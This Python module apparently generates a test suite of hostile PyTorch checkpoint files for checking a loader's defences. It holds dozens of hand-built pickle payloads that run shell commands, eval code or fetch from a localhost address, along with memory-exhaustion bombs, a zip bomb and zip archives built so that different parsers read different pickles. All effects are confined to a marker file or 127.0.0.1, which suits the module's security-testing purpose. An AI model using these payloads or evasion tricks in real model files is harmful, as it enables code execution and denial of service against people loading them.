"""Hostile checkpoints: `.pt` files that would run a command, call out or take all memory if they were believed.

Each is written with the smallest pickle that does it, by hand, so that making them runs nothing. All of them aim
at one effect that can be seen: a marker file, or a request to a server on this machine.
"""

from __future__ import annotations

import copy
import io
import marshal
import pickle
import struct
import tarfile
import warnings
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

from torture import models

Program = bytes


def named(module: str, name: str) -> Program:
    """Push an object by its name."""
    return f"c{module}\n{name}\n".encode()


def text(value: str) -> Program:
    """Push a text."""
    data = value.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def raw(value: bytes) -> Program:
    """Push bytes."""
    return b"B" + struct.pack("<I", len(value)) + value


def number(value: int) -> Program:
    """Push a whole number."""
    return b"J" + struct.pack("<i", value)


def group(*parts: Program) -> Program:
    """Push a tuple."""
    return b"(" + b"".join(parts) + b"t"


def call(function: Program, *arguments: Program) -> Program:
    """Call, and push the result."""
    return function + group(*arguments) + b"R"


def attribute(of: Program, name: str) -> Program:
    """Push an attribute, through `getattr`."""
    return call(named("builtins", "getattr"), of, text(name))


def mapping(**items: Program) -> Program:
    """Push a dictionary."""
    return b"}" + b"".join(text(key) + value + b"s" for key, value in items.items())


def archive(
    program: Program, *, extra: dict[str, bytes] | None = None, packed: bool = False, whole: bool = False
) -> bytes:
    """The bytes of a checkpoint in PyTorch's format, whose pickle is `program`, in a frame unless it is `whole`."""
    buffer = io.BytesIO()
    program = program if whole else b"\x80\x02" + program + b"."
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED if packed else zipfile.ZIP_STORED) as file:
        for name, data in {"data.pkl": program, "version": b"3\n", **(extra or {})}.items():
            file.writestr(f"archive/{name}", data)
    return buffer.getvalue()


def programs(marker: Path, port: int) -> dict[str, Program]:
    """Pickles that would make `marker` or call 127.0.0.1:`port`, by technique."""
    shell, python = f"touch {marker}", f"open({str(marker)!r}, 'w')"
    inner = b"\x80\x02" + call(named("os", "system"), text(shell)) + b"."
    code = marshal.dumps(compile(python, "x", "exec"))
    imported = call(named("builtins", "__import__"), text("os"))
    layer = named("torch.nn.modules.linear", "Linear")
    url = f"http://127.0.0.1:{port}/x.yaml"
    stream = call(named("io", "BytesIO"), raw(archive(inner[2:-1])))
    return {
        "os.system": call(named("os", "system"), text(shell)),
        "posix.system": call(named("posix", "system"), text(shell)),
        "os.popen": call(named("os", "popen"), text(shell)),
        "os.execl": call(named("os", "spawnlp"), number(1), text("touch"), text("touch"), text(str(marker))),
        "os.open": call(named("os", "open"), text(str(marker)), number(0o101)),
        "os.mkdir": call(named("os", "mkdir"), text(str(marker))),
        "subprocess.Popen": call(named("subprocess", "Popen"), b"]" + text("touch") + b"a" + text(str(marker)) + b"a"),
        "subprocess.getoutput": call(named("subprocess", "getoutput"), text(shell)),
        "pty.spawn": call(named("pty", "spawn"), b"]" + text("touch") + b"a" + text(str(marker)) + b"a"),
        "eval": call(named("builtins", "eval"), text(python)),
        "eval, Python 2": call(named("__builtin__", "eval"), text(python)),
        "exec": call(named("builtins", "exec"), text(python)),
        "open": call(named("builtins", "open"), text(str(marker)), text("w")),
        "import and getattr": call(attribute(imported, "system"), text(shell)),
        "getattr through a layer": call(
            call(attribute(attribute(attribute(layer, "__init__"), "__globals__"), "get"), text("__builtins__")),
            text("x"),
        ),
        "importlib": call(attribute(call(named("importlib", "import_module"), text("os")), "system"), text(shell)),
        "compile and exec": call(
            named("builtins", "exec"), call(named("builtins", "compile"), text(python), text("x"), text("exec"))
        ),
        "marshal": call(named("builtins", "exec"), call(named("marshal", "loads"), raw(code))),
        "FunctionType": call(
            call(named("types", "FunctionType"), call(named("marshal", "loads"), raw(code)), b"}"),
        ),
        "functools.partial": call(call(named("functools", "partial"), named("os", "system"), text(shell))),
        "functools.reduce": call(
            named("functools", "reduce"), named("os", "system"), b"]" + text(shell) + b"a", text(shell)
        ),
        "map and list": call(
            named("builtins", "list"), call(named("builtins", "map"), named("os", "system"), b"]" + text(shell) + b"a")
        ),
        "operator.methodcaller": call(call(named("operator", "methodcaller"), text("system"), text(shell)), imported),
        "pickle.loads": call(named("pickle", "loads"), raw(inner)),
        "_pickle.loads": call(named("_pickle", "loads"), raw(inner)),
        "torch.load": call(named("torch.serialization", "load"), stream),
        "torch.storage": call(named("torch.storage", "_load_from_bytes"), raw(archive(inner[2:-1]))),
        "torch.hub": call(named("torch.hub", "load"), text(str(marker.parent)), text("x")),
        "torch.jit": call(named("torch.jit._serialization", "load"), stream),
        "torch.fx": call(
            named("torch.fx.graph_module", "reduce_graph_module"), mapping(_code=text(python)), text(python)
        ),
        "torch.ops": call(named("torch.utils.cpp_extension", "load_inline"), text("x"), text("int f();")),
        "numpy.load": call(named("numpy", "load"), text(str(marker.with_suffix(".npy"))), b"N\x88"),
        "numpy object array": call(
            named("numpy._core.multiarray", "_reconstruct"), named("numpy", "ndarray"), group(number(0)), raw(b"b")
        ),
        "numpy runstring": call(named("numpy.testing._private.utils", "runstring"), text(python), b"}"),
        "timeit": call(named("timeit", "timeit"), text(python)),
        "cProfile": call(named("cProfile", "run"), text(python)),
        "code": call(attribute(call(named("code", "InteractiveInterpreter")), "runsource"), text(python)),
        "runpy": call(named("runpy", "_run_code"), call(named("marshal", "loads"), raw(code)), b"}"),
        "ctypes": call(attribute(call(named("ctypes", "CDLL"), b"N"), "system"), raw(shell.encode())),
        "shutil": call(named("shutil", "copyfile"), text("/etc/hostname"), text(str(marker))),
        "pathlib": call(attribute(call(named("pathlib", "PosixPath"), text(str(marker))), "write_text"), text("x")),
        "yaml": call(named("yaml", "unsafe_load"), text(f"!!python/object/apply:os.system ['{shell}']")),
        "logging.config": call(
            named("logging.config", "dictConfig"),
            mapping(version=number(1), formatters=mapping(x=b"}" + text("()") + named("os", "system") + b"s")),
        ),
        "copyreg": call(named("copyreg", "_reconstructor"), named("os", "_Environ"), named("builtins", "object"), b"N"),
        "INST": b"(" + text(shell) + b"ios\nsystem\n",
        "OBJ": b"(" + named("os", "system") + text(shell) + b"o",
        "STACK_GLOBAL": text("os") + text("system") + b"\x93" + group(text(shell)) + b"R",
        "NEWOBJ": named("subprocess", "Popen") + group(text(shell)) + b"\x81",
        "extension code": call(named("copyreg", "add_extension"), text("os"), text("system"), number(240))
        + b"0\x82\xf0" + group(text(shell)) + b"R",
        "persistent name": b"(" + text("storage") + call(named("os", "system"), text(shell)) + b"tQ",
        "a hook": mapping(hook=call(named("functools", "partial"), named("os", "system"), text(shell))),
        "Ultralytics pip": call(named("ultralytics.utils.checks", "check_requirements"), text("nothing-at-all")),
        "Ultralytics download": call(named("ultralytics.utils.downloads", "safe_download"), text(url)),
        "Ultralytics model from an address": call(named("ultralytics.nn.tasks", "ClassificationModel"), text(url)),
        "Ultralytics detector from an address": call(named("ultralytics.nn.tasks", "DetectionModel"), text(url)),
        "Ultralytics layer that downloads": call(
            named("ultralytics.nn.modules.block", "TorchVision"), text("resnet18")
        ),
        "Ultralytics YOLO": call(named("ultralytics.models.yolo.model", "YOLO"), text(url)),
        "2^40 texts in a name": _doubled() + call(named("dill._dill", "_load_type"), b"h\x00"),
        "2^40 texts as an encoding": _doubled() + call(named("_codecs", "encode"), text("x"), b"h\x00"),
        "2^40 texts as a kind of number": _doubled()
        + call(named("numpy.core.multiarray", "scalar"), call(named("numpy", "dtype"), b"h\x00"), text("x")),
        "a layer of 40 TB": call(layer, number(10_000_000), number(1_000_000)),
        "memo of 64 GB": b"N" + b"r" + struct.pack("<I", 0xFFFFFFF0),
        "deep tuples": b"}" + b")" + b"\x85" * 500_000 + b"Ns",
    }  # fmt: skip


def _doubled() -> Program:
    """Note under 0 a tuple of 2^40 texts, and leave it on the stack."""
    return text("a") + b"\x85q\x00" + b"h\x00h\x00\x86q\x00" * 40


def files(folder: Path, marker: Path, port: int) -> Iterator[tuple[str, Path]]:
    """Write every hostile checkpoint into `folder`; its technique and path."""
    import torch

    made = programs(marker, port)
    shell = made["os.system"]
    (marker.with_suffix(".npy")).write_bytes(b"\x80\x02" + shell + b".")
    contents: dict[str, bytes] = {name: archive(mapping(model=program)) for name, program in made.items()}
    contents["plain pickle"] = b"\x80\x02" + shell + b"."
    contents["old format"] = _old_format(mapping(model=shell))
    contents["old tar format"] = _tar(b"\x80\x02" + shell + b".")
    contents["pickle of protocol 0"] = b"cos\nsystem\n(V" + f"touch {marker}".encode() + b"\ntR."
    contents["second pickle"] = archive(mapping(model=b"N"), extra={"data.pkl.bak": b"", "constants.pkl": shell + b"."})
    contents["zip bomb"] = archive(mapping(model=b"N"), extra={"data/0": bytes(200_000_000)}, packed=True)
    contents["two pickles of a name"] = _twice(shell)
    contents["two directories"] = two_directories(archive(mapping(model=b"N")), shell)
    yield from _written(folder, contents)
    good = models.make_content()
    for name, change in _CHANGES.items():
        content = copy.deepcopy(good)
        change(content, f"touch {marker}", port)
        path = folder / f"{name}.pt"
        torch.save(content, path)
        yield name, path


def _written(folder: Path, contents: dict[str, bytes]) -> Iterator[tuple[str, Path]]:
    for name, data in contents.items():
        path = folder / f"{name}.pt"
        path.write_bytes(data)
        yield name, path


def _old_format(program: Program) -> bytes:
    """PyTorch's format before 1.6: pickles one after the other."""
    head = [0x1950A86A20F9469CFC6C, 1001, {"protocol_version": 1001, "little_endian": True, "type_sizes": {}}]
    return b"".join(pickle.dumps(part, 2) for part in head) + b"\x80\x02" + program + b"."


def _tar(program: bytes) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as file:
        for name in ("sys_info", "pickle", "storages", "tensors"):
            entry = tarfile.TarInfo(name)
            entry.size = len(program)
            file.addfile(entry, io.BytesIO(program))
    return buffer.getvalue()


def _twice(program: Program) -> bytes:
    """An archive whose two readers may find two different pickles."""
    buffer = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(buffer, "w") as file:
        warnings.simplefilter("ignore")
        file.writestr("archive/data.pkl", b"\x80\x02" + program + b".")
        file.writestr("archive/version", b"3\n")
        file.writestr("archive/data.pkl", b"\x80\x02" + mapping(model=b"N") + b".")
    return buffer.getvalue()


def two_directories(good: bytes, program: Program) -> bytes:
    """An archive in which Python's `zipfile` finds the entries of `good`, and PyTorch's reader another pickle.

    Both end records for large archives are there; Python takes the one before the locator, PyTorch follows it.
    """
    buffer = io.BytesIO()
    places = []
    with zipfile.ZipFile(io.BytesIO(good)) as file, zipfile.ZipFile(buffer, "w") as made:
        parts = {f"archive/{name.partition('/')[2]}": file.read(name) for name in file.namelist()}
        shown = [made.writestr(name, data) or made.filelist[-1] for name, data in parts.items()]
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            made.writestr("archive/data.pkl", b"\x80\x02" + mapping(model=program) + b".")
        for entries in ([made.filelist[-1], *shown[1:]], shown):
            made.start_dir, made.filelist = buffer.tell(), entries
            made._write_end_record()  # type: ignore[attr-defined]
            buffer.truncate(buffer.tell() - 22)  # the end record for small archives
            size, count = buffer.seek(0, 2) - made.start_dir, len(entries)
            places.append(buffer.tell())
            buffer.write(struct.pack("<4sQ2H2I4Q", b"PK\6\6", 44, 45, 45, 0, 0, count, count, size, made.start_dir))
        data = buffer.getvalue()
        made.filelist = []
    data += struct.pack("<4sIQI", b"PK\6\7", 0, places[0], 1)
    return data + struct.pack("<4s4H2IH", b"PK\5\6", 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0)


def _activation(content: dict[str, Any], shell: str, port: int) -> None:
    content["model"].yaml["activation"] = f"__import__('os').system({shell!r})"


def _hidden_activation(content: dict[str, Any], shell: str, port: int) -> None:
    content["model"].yaml["activation"] = f"nn.SiLU(__import__('os').system({shell!r}))"


def _address(content: dict[str, Any], shell: str, port: int) -> None:
    content["train_args"]["data"] = f"http://127.0.0.1:{port}/x.zip"


def _teacher(content: dict[str, Any], shell: str, port: int) -> None:
    content["train_args"]["distill_model"] = f"http://127.0.0.1:{port}/x.pt"


def _forward_hook(content: dict[str, Any], shell: str, port: int) -> None:
    import functools
    import os

    content["model"].register_forward_hook(functools.partial(os.system, shell))


def _stretched(content: dict[str, Any], shell: str, port: int) -> None:
    import torch

    content["model"].register_buffer("stretched", torch.zeros(1).expand(1 << 40))


def _nested() -> tuple[Any, ...]:
    """A few bytes that would be 2^41 texts if they were written out."""
    found: tuple[Any, ...] = ("a", "a")
    for _ in range(40):
        found = found, found
    return found


def _nested_attribute(content: dict[str, Any], shell: str, port: int) -> None:
    content["model"].model[0].conv.kernel_size = _nested()


def _long_texts(content: dict[str, Any], shell: str, port: int) -> None:
    content["model"].yaml["backbone"][0][3] = [["x" * 1_000_000] * 100_000]


def _same_numbers(content: dict[str, Any], shell: str, port: int) -> None:
    import torch

    numbers = torch.zeros(2_000_000)
    content["optimizer"] = {"state": {index: numbers[index:] for index in range(2000)}}


def _same_weights(content: dict[str, Any], shell: str, port: int) -> None:
    layer = content["model"].model[1].bn
    layer.weight = layer.bias


def _larger_layers(content: dict[str, Any], shell: str, port: int) -> None:
    plan = content["model"].yaml
    plan["backbone"][:2] = [[-1, 1, "Conv", [65536, 3, 2]]] * 2
    plan["scales"], plan["scale"] = {"n": [0.33, 1.0, 1 << 20]}, "n"


def _layers_within(content: dict[str, Any], shell: str, port: int) -> None:
    content["model"].yaml["backbone"][1:3] = [[-1, 1, "ResNetLayer", [64, 64, 1, False, 60000]]] * 20


def _long_paths(content: dict[str, Any], shell: str, port: int) -> None:
    import torch

    within = torch.nn.Identity()
    for _ in range(30):
        outside = torch.nn.Module()
        outside._modules = {"n" * 1_000_000: within, "m": within}
        within = outside
    content["model"]._modules["within"] = within


def _no_numbers(content: dict[str, Any], shell: str, port: int) -> None:
    for parameter in content["model"].parameters():
        parameter.data.fill_(float("nan"))


def _no_layers(content: dict[str, Any], shell: str, port: int) -> None:
    content["model"]._modules["model"] = None


def _no_names(content: dict[str, Any], shell: str, port: int) -> None:
    content["model"].names = {7: "dog", "x": 3}


def _ears(**changes: Any) -> Callable[[dict[str, Any], str, int], None]:
    def change(content: dict[str, Any], shell: str, port: int) -> None:
        preprocessing = content["model"].soundsight
        preprocessing["spectrogram"].update(changes.get("spectrogram", {}))
        preprocessing.update({key: value for key, value in changes.items() if key != "spectrogram"})

    return change


_CHANGES: dict[str, Callable[[dict[str, Any], str, int], None]] = {
    "activation that is evaluated": _activation,
    "activation with a call inside": _hidden_activation,
    "training data from an address": _address,
    "teacher from an address": _teacher,
    "forward hook": _forward_hook,
    "tensor of 4 TB": _stretched,
    "attribute of 2^41 texts": _nested_attribute,
    "layer with texts of 100 GB": _long_texts,
    "16 GB of tensors over the same numbers": _same_numbers,
    "two layers with the same weights": _same_weights,
    "description of larger layers than there are weights": _larger_layers,
    "layers of 60,000 layers": _layers_within,
    "layers with paths of 30 MB": _long_paths,
    "weights that are no numbers": _no_numbers,
    "network without layers": _no_layers,
    "classes without names": _no_names,
    "preprocessing of 100 TB": _ears(spectrogram={"image_size": 10**7}),
    "preprocessing with an endless clip": _ears(spectrogram={"clip_seconds": float("inf")}),
    "preprocessing with a list of windows": _ears(spectrogram={"windows_ms": [25.0] * 10_000}),
    "preprocessing of the future": _ears(format=99),
    "temperature that is no number": _ears(temperature=float("nan")),
    "preprocessing with too many classes": _ears(names=["x"] * 100_000),
}
# Of these, only what `train` and `crossval` do not read is changed.
ONLY_EARS = frozenset(
    {name for name in _CHANGES if name.startswith("preprocessing") or "temperature" in name or "names" in name}
)
